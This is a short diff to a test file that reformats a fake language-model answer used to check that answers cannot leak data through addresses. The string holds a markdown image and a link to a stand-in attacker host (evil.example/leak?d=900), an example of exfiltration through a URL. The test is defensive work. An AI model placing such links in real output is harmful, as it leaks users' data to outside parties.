@@ -178,7 +178,9 @@ test('a model answers from what was found; its made-up sources are dropped', asy
 });
 
 test('a model gives nothing away by an address, and several numbers in one mark are several', async () => {
-  const answer = 'Nine hundred euros [2, 1, 7]. ![x](http://evil.example/leak?d=900) See ' + '[it](//evil.example/900), http://porto.example/roof.'; // prettier-ignore
+  const answer =
+    'Nine hundred euros [2, 1, 7]. ![x](http://evil.example/leak?d=900) See ' +
+    '[it](//evil.example/900), http://porto.example/roof.';
   await using model = await startLanguageModel((_, response) =>
     complete(response, JSON.stringify({ answer, sources: [] })),
   );
